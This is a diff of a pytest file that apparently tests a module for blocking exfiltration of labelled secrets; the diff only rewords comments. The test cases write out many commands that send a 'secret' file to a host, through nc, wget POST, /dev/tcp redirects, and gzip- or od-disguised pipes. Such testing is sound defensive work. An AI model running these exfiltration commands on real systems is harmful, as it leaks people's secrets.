@@ -1,5 +1,5 @@
 # SPDX-License-Identifier: GPL-3.0-or-later
-"""From process to process the label goes along: whoever sends the bytes in the end is asked about."""
+"""The label goes along from process to process: the process that sends the bytes in the end is asked about."""
 
 import re
 
@@ -20,7 +20,7 @@ def piped(wait):
     return f"{{ sleep 0.2; cat secret; }} | channel receive stdin {wait}"
 
 
-# Born before anybody has the FIFO, opens it after it was filled.
+# A reader that starts before the FIFO exists, and opens it after it was filled.
 LATE_READER = "bash -c 'until [[ -e go ]]; do sleep 0.02; done; head -c 50 > /dev/tcp/10.77.0.2/9 <"
 
 SCRIPTS = {
@@ -56,20 +56,20 @@ SCRIPTS = {
     "sorted": "sort -r secret | uniq | tr a-z A-Z | nc remote 9",
     "post": "wget -q -T 5 -O - --post-file secret http://10.77.0.2/up",
     "post-data": "wget -q -T 5 -O - --post-data \"$(cat secret)\" http://10.77.0.2/up",
-    # What was mapped before it was labelled is the process's, too.
+    # A file that was mapped before it was labelled counts as read by the process.
     "mapped-to-file": "agent unlabel secret; leak labelled-while-mapped stdout secret > copy; nc remote 9 < copy",
     "mapped-to-pipe": "agent unlabel secret; leak labelled-while-mapped stdout secret | nc remote 9",
     "background": "(sleep 0.2; nc remote 9 < secret) & wait $!",
 }
-# In another disguise than the oracle knows, or in no order.
+# The oracle does not know these disguises.
 DISGUISED = {
     "gzip": "gzip -c secret | nc remote 9",
     "od": "od -An -to1 secret | nc remote 9",
 }
-# To see once what readers get instead.
+# These show once that readers get the scrubbed copy.
 SCRUBBED = ("pipe", "pipe-encoded", "pipe-three", "pipe-in-epoll", "stream-in-message", "datagram-in-read", "tcp-in-late", "udp-in-read",
             "fifo-late", "cp", "variable", "arguments", "environment", "here-string", "post", "gzip", "od")
-# What the module refuses to follow altogether.
+# The module refuses these channels, because it cannot follow them.
 REFUSED = {
     "sysv": relayed("sysv", "read"),
     "queue": relayed("queue", "read"),
@@ -78,7 +78,7 @@ REFUSED = {
 
 @pytest.mark.parametrize("case", [Case(name, script) for name, script in {**SCRIPTS, **DISGUISED}.items()], ids=str)
 def test_blocked(case, outcome):
-    # A header or a line break that both send alike may be gone by then.
+    # A header or a line break that both halves send alike may have left before the question.
     assert_blocked(outcome, nothing_at_all=case.name not in ("post", "post-data", "append", "gzip"))
 
 
@@ -97,8 +97,8 @@ def test_refused(case, outcome):
     assert outcome.received == b"", outcome.describe()
 
 
-# Who read the file, and through whom the data went to whoever sends it, which is not among them when it was born later,
-# unless it was not watched any more when the data came.
+# The chain that the question tells: the process that read the file, then those that the data went through. The sender is in it
+# only if it lived before the data came, or was no longer watched when it came.
 CHAINS = {
     "cat secret | tac | nc remote 9": "cat>tac>nc",
     "x=$(base64 -w0 secret); (echo $x) | nc remote 9": "base64>bash(>nc)?",
